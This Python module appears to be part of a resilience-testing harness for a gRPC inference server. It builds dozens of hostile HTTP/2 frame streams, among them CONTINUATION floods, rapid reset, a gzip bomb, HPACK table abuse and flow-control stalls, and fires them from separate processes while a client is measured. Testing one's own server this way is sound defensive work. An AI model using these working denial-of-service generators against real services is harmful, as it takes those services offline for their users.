"""What a hostile client says to a gRPC port before any key is looked at. Runs in processes of its own, so that it does not share an
interpreter with the client that is measured: `python -m wire.attacks NAME PORT SECONDS`."""

import contextlib
import os
import struct
import subprocess
import sys
import time
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

from .http2 import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    MAX_FRAME,
    PADDED,
    PING,
    PREFACE,
    PRIORITY,
    PUSH_PROMISE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    call_headers,
    connect,
    frame,
    grpc_message,
)

METHOD = "inference.GRPCInferenceService/ModelInfer"
LIVE = "inference.GRPCInferenceService/ServerLive"
CHECK = "grpc.health.v1.Health/Check"
ACKNOWLEDGED = frame(SETTINGS, ACK, 0, b"")
CONNECTIONS = 2
# As much as a socket takes at once without the attacker's own copying becoming the bound.
CHUNK = 256 << 10


def continuation_flood() -> Iterator[bytes]:
    """Headers without an end: literals that are never indexed, in CONTINUATION frames for ever."""
    field = b"\0" + bytes([7]) + b"x-flood" + bytes([100]) + b"f" * 100
    block = field * (16000 // len(field))
    yield frame(HEADERS, 0, 1, call_headers(METHOD))
    more = frame(CONTINUATION, 0, 1, block) * (CHUNK // len(block))
    while True:
        yield more


def rapid_reset() -> Iterator[bytes]:
    """Calls that are reset as soon as they are made."""
    headers = call_headers(METHOD)
    stream = 1
    while stream < 1 << 31:
        burst = []
        for _ in range(1000):
            burst.append(frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
            stream += 2
        yield b"".join(burst)


def endless_string() -> Iterator[bytes]:
    """A header whose value says that it is 2 GB long, and a piece of it after the other."""
    start = call_headers(METHOD) + b"\0" + bytes([6]) + b"x-long" + b"\x7f\xff\xff\xff\xff\x07"   # 7-bit prefix, then base 128
    yield frame(HEADERS, 0, 1, start)
    piece = frame(CONTINUATION, 0, 1, b"x" * 1000)
    while True:
        yield piece


def calls(headers: bytes, body: bytes = b"", flags: int = END_HEADERS) -> Iterator[bytes]:
    """A call with these headers after the other; the body is a DATA frame's, or nothing."""
    stream = 1
    while stream < 1 << 31:
        burst = []
        for _ in range(500):
            burst.append(frame(HEADERS, flags, stream, headers) + (frame(DATA, END_STREAM, stream, body) if body else b""))
            stream += 2
        yield b"".join(burst)


def flood(*frames: bytes, start: bytes = b"") -> Iterator[bytes]:
    """The same frames for ever."""
    if start:
        yield start
    burst = b"".join(frames)
    burst *= max(CHUNK // len(burst), 1)
    while True:
        yield burst


def call_flood() -> Iterator[bytes]:
    """Calls of no method, faster than they are begun. The server's settings are not acknowledged, as in all attacks that do not say so."""
    return calls(call_headers("x/y"))


def acknowledged_call_flood() -> Iterator[bytes]:
    yield ACKNOWLEDGED
    yield from calls(call_headers("x/y"))


def request_flood() -> Iterator[bytes]:
    """Whole requests whose answers are not read."""
    return calls(call_headers(LIVE), grpc_message(b""))


def old_stream() -> Iterator[bytes]:
    """Headers of a stream that is over."""
    return flood(frame(HEADERS, END_HEADERS | END_STREAM, 1, b"\x82"), start=frame(HEADERS, END_HEADERS, 10001, call_headers(METHOD)))


def old_stream_with_long_headers() -> Iterator[bytes]:
    field = b"\0" + bytes([7]) + b"x-flood" + bytes([100]) + b"f" * 100
    return flood(frame(HEADERS, END_HEADERS | END_STREAM, 1, field * (16000 // len(field))),
                 start=frame(HEADERS, END_HEADERS, 10001, call_headers(METHOD)))


def even_streams() -> Iterator[bytes]:
    """Headers of streams that only a server may open."""
    return flood(*(frame(HEADERS, END_HEADERS, stream, b"\x82") for stream in range(2, 2000, 2)))


def endless_message() -> Iterator[bytes]:
    """A message of 2,000 MB."""
    return flood(frame(DATA, 0, 1, bytes(MAX_FRAME)),
                 start=ACKNOWLEDGED + frame(HEADERS, END_HEADERS, 1, call_headers(CHECK))
                 + frame(DATA, 0, 1, b"\0" + struct.pack(">I", 2_000_000_000)))


def messages_without_their_end() -> Iterator[bytes]:
    """The messages of the largest size that each connection may have at once, all but their last bytes."""
    size, streams = 16 << 20, range(1, 5, 2)
    start = b"\0" + struct.pack(">I", size)
    yield ACKNOWLEDGED + b"".join(
        frame(HEADERS, END_HEADERS, stream, call_headers(METHOD)) + frame(DATA, 0, stream, start) for stream in streams)
    time.sleep(0.2)   # the server sends its window for these streams meanwhile
    piece = bytes(MAX_FRAME)
    for _ in range(size // MAX_FRAME - 1):
        time.sleep(0.001)   # paces the sender, because data beyond the granted window would end the connection
        yield b"".join(frame(DATA, 0, stream, piece) for stream in streams)
    time.sleep(60)   # keeps the connection open; the attacking process is killed at the end of the test


def three_messages_in_turns() -> Iterator[bytes]:
    """As many of the largest messages as one connection may have, a frame of each in turn, without their ends."""
    size, streams = 16 << 20, (1, 3, 5)
    yield ACKNOWLEDGED + b"".join(
        frame(HEADERS, END_HEADERS, stream, call_headers(METHOD)) + frame(DATA, 0, stream, b"\0" + struct.pack(">I", size)) for stream in streams)
    time.sleep(0.2)
    turn = b"".join(frame(DATA, 0, stream, bytes(MAX_FRAME)) for stream in streams)
    for _ in range(size // MAX_FRAME - 1):
        time.sleep(0.001)
        yield turn
    time.sleep(60)


def medium_messages_without_their_end() -> Iterator[bytes]:
    """A message below the size from which each is bounded on every stream that a connection may have."""
    piece = b"\0" + struct.pack(">I", 60_000) + bytes(MAX_FRAME - 5)
    yield ACKNOWLEDGED
    for stream in range(1, 2001, 2):
        yield frame(HEADERS, END_HEADERS, stream, call_headers(METHOD)) + frame(DATA, 0, stream, piece) + frame(DATA, 0, stream, bytes(MAX_FRAME)) * 2
    time.sleep(60)


def pieces_between_other_calls() -> Iterator[bytes]:
    """A message a byte at a time, each after much else: gRPC would keep all that was read with it."""
    yield ACKNOWLEDGED + frame(HEADERS, END_HEADERS, 1, call_headers(METHOD)) + frame(DATA, 0, 1, b"\0" + struct.pack(">I", 60_000))
    body = grpc_message(bytes(50_000))
    for stream in range(3, 1 << 31, 2):
        whole = [frame(DATA, 0, 1, b"x") + frame(DATA, 0, stream, body[start:start + MAX_FRAME]) for start in range(0, len(body), MAX_FRAME)]
        yield frame(HEADERS, END_HEADERS, stream, call_headers(LIVE)) + b"".join(whole) + frame(DATA, END_STREAM, stream, b"")


def headers_between_other_calls() -> Iterator[bytes]:
    """Calls that stay open, whose headers come with much else."""
    watch = call_headers("grpc.health.v1.Health/Watch") + b"\0" + bytes([6]) + b"x-kept" + bytes([100]) + b"f" * 100
    yield ACKNOWLEDGED
    body = grpc_message(bytes(50_000))
    stream = 1
    while True:
        if stream < 1800:
            yield frame(HEADERS, END_HEADERS, stream, watch) + frame(DATA, END_STREAM, stream, grpc_message(b""))
            stream += 2
        whole = [frame(DATA, 0, stream, body[start:start + MAX_FRAME]) for start in range(0, len(body), MAX_FRAME)]
        yield frame(HEADERS, END_HEADERS, stream, call_headers(LIVE)) + b"".join(whole) + frame(DATA, END_STREAM, stream, b"")
        stream += 2


def short_frames_of_a_message() -> Iterator[bytes]:
    """Each of which gRPC keeps apart."""
    yield ACKNOWLEDGED
    for stream in range(1, 2001, 2):
        start = frame(HEADERS, END_HEADERS, stream, call_headers(METHOD)) + frame(DATA, 0, stream, b"\0" + struct.pack(">I", 60_000))
        yield start + frame(DATA, 0, stream, bytes(24)) * 2400
    time.sleep(60)


def further_messages() -> Iterator[bytes]:
    """Of calls that take one message and cannot answer, because the client takes no data."""
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)) + ACKNOWLEDGED
    more = grpc_message(bytes(MAX_FRAME - 5))
    for stream in range(1, 2001, 2):
        yield frame(HEADERS, END_HEADERS, stream, call_headers(LIVE)) + frame(DATA, 0, stream, grpc_message(b""))
    for _ in range(3):
        for stream in range(1, 2001, 2):
            yield frame(DATA, 0, stream, more)
    time.sleep(60)


def answers_without_a_window() -> Iterator[bytes]:
    """Whole requests whose answers the client gives no room."""
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)) + ACKNOWLEDGED
    yield from calls(call_headers(LIVE), grpc_message(b""))


def gzip_bomb() -> Iterator[bytes]:
    """Calls with messages of 4 MB that unpack to 4 GB of zeros."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packer.compress(bytes(1 << 20))
    packer.flush(zlib.Z_FULL_FLUSH)
    piece = packer.compress(bytes(16 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    packed = b"\x1f\x8b\x08\0\0\0\0\0\0\x03" + piece * 256
    body = b"\1" + struct.pack(">I", len(packed)) + packed
    headers = call_headers(METHOD) + b"\0" + bytes([13]) + b"grpc-encoding" + bytes([4]) + b"gzip"
    yield ACKNOWLEDGED
    for stream in range(1, 1 << 31, 2):
        sent = [frame(DATA, 0, stream, body[start:start + MAX_FRAME]) for start in range(0, len(body), MAX_FRAME)]
        yield frame(HEADERS, END_HEADERS, stream, headers) + b"".join(sent)


def prefix_byte_by_byte() -> Iterator[bytes]:
    """The size of a message, a byte in a frame, for stream after stream."""
    yield ACKNOWLEDGED
    for stream in range(1, 1 << 31, 2):
        yield frame(HEADERS, END_HEADERS, stream, call_headers(CHECK)) + b"".join(
            frame(DATA, 0, stream, bytes([byte])) for byte in b"\0\x01\0\0\x01" + bytes(1000))


def empty_messages() -> Iterator[bytes]:
    """Thousands of them in a frame."""
    return flood(frame(DATA, 0, 1, bytes(16000)), start=ACKNOWLEDGED + frame(HEADERS, END_HEADERS, 1, call_headers(
        "grpc.reflection.v1.ServerReflection/ServerReflectionInfo")))


def indexed_headers() -> Iterator[bytes]:
    """Calls whose 16 KB of headers name a long field again and again, in a byte each."""
    field = b"\x40" + bytes([7]) + b"x-flood" + bytes([100]) + b"f" * 100
    yield ACKNOWLEDGED
    yield from calls(call_headers("x/y") + field + b"\xbe" * 15000)


def headers_of_many_fields() -> Iterator[bytes]:
    """Calls whose headers expand to no more than 8 KiB, in as many fields as that can be."""
    yield ACKNOWLEDGED
    yield from calls(call_headers("x/y") + b"\x40\x01x\0" + b"\xbe" * 230)


def headers_in_many_frames() -> Iterator[bytes]:
    """The fields of a call's headers in frames of a hundred."""
    yield ACKNOWLEDGED
    for stream in range(1, 1 << 31, 2):
        yield frame(HEADERS, 0, stream, call_headers("x/y") + b"\x40\x01x\0") + b"".join(
            frame(CONTINUATION, END_HEADERS if last else 0, stream, b"\xbe" * 200) for last in (False,) * 7 + (True,))


def names_of_literals() -> Iterator[bytes]:
    """Literals of two bytes, whose names are the longest of the static table."""
    yield ACKNOWLEDGED
    yield from calls(call_headers("x/y") + b"\x0f\x05\0" * 120)


def no_method() -> Iterator[bytes]:
    """Calls that are over with headers that lack everything."""
    yield ACKNOWLEDGED
    yield from calls(b"\x83", flags=END_HEADERS | END_STREAM)


def trailers_again() -> Iterator[bytes]:
    trailers = frame(HEADERS, END_HEADERS | END_STREAM, 1, b"\x00\x01x\x01y")
    return flood(trailers, start=ACKNOWLEDGED + frame(HEADERS, END_HEADERS, 1, call_headers(METHOD)))


def expired_calls() -> Iterator[bytes]:
    """Calls that are over when they come."""
    yield ACKNOWLEDGED
    yield from calls(call_headers(LIVE, "1n"), grpc_message(b""))


def calls_that_expire_together() -> Iterator[bytes]:
    """As many as a connection may have, which wait for their messages until all their deadlines pass at once."""
    yield ACKNOWLEDGED
    headers = call_headers(METHOD, "100m")
    for first in range(1, 1 << 31, 2000):
        yield b"".join(frame(HEADERS, END_HEADERS, stream, headers) for stream in range(first, first + 2000, 2))
        time.sleep(0.15)


def timeouts_that_are_none() -> Iterator[bytes]:
    """gRPC logs each."""
    yield ACKNOWLEDGED
    yield from calls(call_headers(LIVE, "x" * 100), grpc_message(b""))


def calls_without_a_message() -> Iterator[bytes]:
    yield ACKNOWLEDGED
    yield from calls(call_headers(METHOD), flags=END_HEADERS | END_STREAM)


def malformed_binary_headers() -> Iterator[bytes]:
    yield ACKNOWLEDGED
    yield from calls(call_headers(LIVE) + b"\0" + bytes([5]) + b"x-bin" + bytes([100]) + b"*" * 100, grpc_message(b""))


def table_sizes() -> Iterator[bytes]:
    """Headers that resize the decoder's table again and again."""
    yield ACKNOWLEDGED
    yield from calls(b"\x20\x3f\xe1\x1f" * 2000 + call_headers("x/y"))


def padded_headers() -> Iterator[bytes]:
    yield ACKNOWLEDGED
    yield from calls(b"\xff" + call_headers("x/y") + bytes(255), flags=END_HEADERS | PADDED)


def interrupted_headers() -> Iterator[bytes]:
    """Headers whose end another frame precedes."""
    yield ACKNOWLEDGED
    for stream in range(1, 1 << 31, 2):
        yield frame(HEADERS, 0, stream, call_headers("x/y")) + frame(PING, 0, 0, bytes(8)) + frame(CONTINUATION, END_HEADERS, stream, b"")


def watches() -> Iterator[bytes]:
    """Calls that never end, as many as the server takes."""
    yield ACKNOWLEDGED
    yield from calls(call_headers("grpc.health.v1.Health/Watch"), grpc_message(b""))


def changing_windows() -> Iterator[bytes]:
    """Settings that concern each of many open calls."""
    yield from flood(*(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, window)) for window in (0, 65535)), start=ACKNOWLEDGED + b"".join(
        frame(HEADERS, END_HEADERS, stream, call_headers(METHOD)) for stream in range(1, 2001, 2)))


def answers_byte_by_byte() -> Iterator[bytes]:
    """Calls whose answers get room for a byte at a time, and that send further messages meanwhile."""
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)) + ACKNOWLEDGED
    streams = range(1, 2001, 2)
    more = grpc_message(bytes(4000))
    for stream in streams:
        yield frame(HEADERS, END_HEADERS, stream, call_headers("inference.GRPCInferenceService/ServerMetadata")) + frame(
            DATA, 0, stream, grpc_message(b""))
    while True:
        for stream in streams:
            yield frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 1)) + frame(DATA, 0, stream, more)


def questions_without_answers_read() -> Iterator[bytes]:
    """Long answers to short questions, on one stream."""
    question = grpc_message(b"\x22\x1e" + b"inference.GRPCInferenceService"[:30])   # file_containing_symbol
    return flood(frame(DATA, 0, 1, question), start=ACKNOWLEDGED + frame(HEADERS, END_HEADERS, 1, call_headers(
        "grpc.reflection.v1.ServerReflection/ServerReflectionInfo")))


def streams_that_the_server_resets(*errors: Callable[[int], bytes]) -> Iterator[bytes]:
    """Calls with an error in each, for which the server resets the stream itself."""
    yield ACKNOWLEDGED
    headers = call_headers(METHOD)
    for first in range(1, 1 << 31, 400):
        yield b"".join(frame(HEADERS, END_HEADERS, stream, headers) + b"".join(error(stream) for error in errors)
                       for stream in range(first, first + 400, 2))


def windows_that_overflow() -> Iterator[bytes]:
    return streams_that_the_server_resets(lambda stream: frame(WINDOW_UPDATE, 0, stream, b"\x7f\xff\xff\xff"))


def data_after_the_end_of_each_call() -> Iterator[bytes]:
    return streams_that_the_server_resets(lambda stream: frame(DATA, END_STREAM, stream, grpc_message(b"")),
                                          lambda stream: frame(DATA, 0, stream, b"x"))


def another_content_type() -> Iterator[bytes]:
    """Whole requests that are refused by their headers alone."""
    yield ACKNOWLEDGED
    yield from calls(call_headers(METHOD).replace(b"application/grpc", b"application/json"), grpc_message(b""))


def new_metadata_names() -> Iterator[bytes]:
    """Whole requests with eight fields that no call before had, each of which is added to the table."""
    yield ACKNOWLEDGED
    for stream in range(1, 1 << 31, 2):
        fields = b"".join(b"\x40" + bytes([12]) + b"x-%09d%d" % (stream, field) + b"\1v" for field in range(8))
        yield frame(HEADERS, END_HEADERS, stream, call_headers(LIVE) + fields) + frame(DATA, END_STREAM, stream, grpc_message(b""))


def wrong_models() -> Iterator[bytes]:
    """Whole requests that are refused for what they ask for, each for another name."""
    yield ACKNOWLEDGED
    for stream in range(1, 1 << 31, 2):
        name = b"no-%013d" % stream
        yield frame(HEADERS, END_HEADERS, stream, call_headers(METHOD)) + frame(
            DATA, END_STREAM, stream, grpc_message(b"\x0a" + bytes([len(name)]) + name))


def hang_ups() -> Iterator[bytes]:
    """Connections that end after a call."""
    yield ACKNOWLEDGED + frame(HEADERS, END_HEADERS, 1, call_headers(METHOD)) + frame(DATA, 0, 1, b"\0\0\0\x40\0" + bytes(1000))


def calls_then_unfinished_headers() -> Iterator[bytes]:
    """As many calls as a connection may have, and then abuse within a header block, where nothing can end them in turns."""
    yield ACKNOWLEDGED
    watch = call_headers("grpc.health.v1.Health/Watch")
    yield b"".join(frame(HEADERS, END_HEADERS, stream, watch) + frame(DATA, END_STREAM, stream, grpc_message(b"")) for stream in range(1, 2001, 2))
    yield frame(HEADERS, 0, 2001, b"\0\x01x\x7f\xff\xff\x7f" + bytes(8000)) + frame(CONTINUATION, 0, 2001, bytes(MAX_FRAME)) * 4


def on_an_open_call(*frames: bytes) -> Callable[[], Iterator[bytes]]:
    return lambda: flood(*frames, start=ACKNOWLEDGED + frame(HEADERS, END_HEADERS, 1, call_headers(METHOD)))


FLOODS = {
    "pings": on_an_open_call(frame(PING, 0, 0, bytes(8))),
    "settings": on_an_open_call(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535) * 100)),
    "acknowledgements": on_an_open_call(ACKNOWLEDGED),
    "priorities": on_an_open_call(frame(PRIORITY, 0, 1, bytes(5))),
    "window updates": on_an_open_call(frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1))),
    "empty data": on_an_open_call(frame(DATA, 0, 1, b"")),
    "padded data": on_an_open_call(frame(DATA, PADDED, 1, b"\x0f" + bytes(15))),
    "data of no stream": on_an_open_call(frame(DATA, 0, 4001, bytes(MAX_FRAME))),
    "unknown frames": on_an_open_call(frame(0xfa, 0, 1, bytes(100))),
    "long unknown frames": on_an_open_call(frame(0xfa, 0xff, 0, bytes(MAX_FRAME))),
    "goaways": on_an_open_call(frame(GOAWAY, 0, 0, bytes(8) + b"why" * 100)),
    "acknowledged pings": on_an_open_call(frame(PING, ACK, 0, bytes(8))),
    "window updates of the connection": on_an_open_call(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))),
    "windows of no size": on_an_open_call(frame(WINDOW_UPDATE, 0, 1, bytes(4))),
    "resets of no stream": on_an_open_call(frame(RST_STREAM, 0, 4001, bytes(4))),
    "continuations of nothing": on_an_open_call(frame(CONTINUATION, END_HEADERS, 1, b"\x82")),
    "data after the end": on_an_open_call(frame(DATA, END_STREAM, 1, bytes(5)), frame(DATA, 0, 1, bytes(MAX_FRAME))),
    "data of the connection": on_an_open_call(frame(DATA, 0, 0, bytes(100))),
    "frames of 16 MiB": on_an_open_call(frame(0xfa, 0, 0, bytes((1 << 24) - 1))),
    "push promises": on_an_open_call(frame(PUSH_PROMISE, END_HEADERS, 1, bytes(5))),
}


ATTACKS: dict[str, Callable[[], Iterator[bytes]]] = {
    attack.__name__.replace("_", " "): attack for attack in (
        continuation_flood, rapid_reset, endless_string, call_flood, acknowledged_call_flood, request_flood, old_stream,
        old_stream_with_long_headers, even_streams, endless_message, messages_without_their_end, three_messages_in_turns,
        medium_messages_without_their_end, pieces_between_other_calls, headers_between_other_calls, short_frames_of_a_message,
        further_messages, answers_without_a_window, gzip_bomb, prefix_byte_by_byte,
        empty_messages, indexed_headers, headers_of_many_fields, headers_in_many_frames, names_of_literals, no_method,
        trailers_again, expired_calls, calls_that_expire_together, timeouts_that_are_none, calls_without_a_message,
        malformed_binary_headers, table_sizes, padded_headers,
        interrupted_headers, watches, changing_windows, answers_byte_by_byte, questions_without_answers_read, windows_that_overflow,
        data_after_the_end_of_each_call, another_content_type, new_metadata_names, wrong_models, hang_ups, calls_then_unfinished_headers)} | FLOODS


def attack(name: str, port: int, seconds: float, tls: bool) -> int:
    """Attacks for so long on one connection after the other; returns how many it took."""
    end = time.monotonic() + seconds
    connections = 0
    while time.monotonic() < end:
        with contextlib.suppress(OSError), connect(port, tls) as connection:
            connections += 1
            connection.settimeout(max(end - time.monotonic(), 0.01))
            connection.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
            for said in ATTACKS[name]():
                if time.monotonic() >= end:
                    break
                connection.sendall(said)
    return connections


@contextlib.contextmanager
def under_attack(name: str, port: int, seconds: float, tls: bool = False, cpus: set[int] | None = None) -> Iterator[list[subprocess.Popen]]:
    """The attack from two connections, each made anew when it is closed, for the time of a with block that lasts at most so long. Yields the processes
    that attack, which run on these CPUs."""
    command = [sys.executable, "-m", "wire.attacks", name, str(port), str(seconds), *(["tls"] if tls else [])]
    attackers = [subprocess.Popen(command, cwd=Path(__file__).parents[1], preexec_fn=lambda: os.sched_setaffinity(0, cpus) if cpus else None)
                 for _ in range(CONNECTIONS)]
    try:
        yield attackers
    finally:
        for attacker in attackers:
            attacker.kill()
            attacker.wait()


if __name__ == "__main__":
    print(attack(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), "tls" in sys.argv[4:]), "connections", file=sys.stderr)
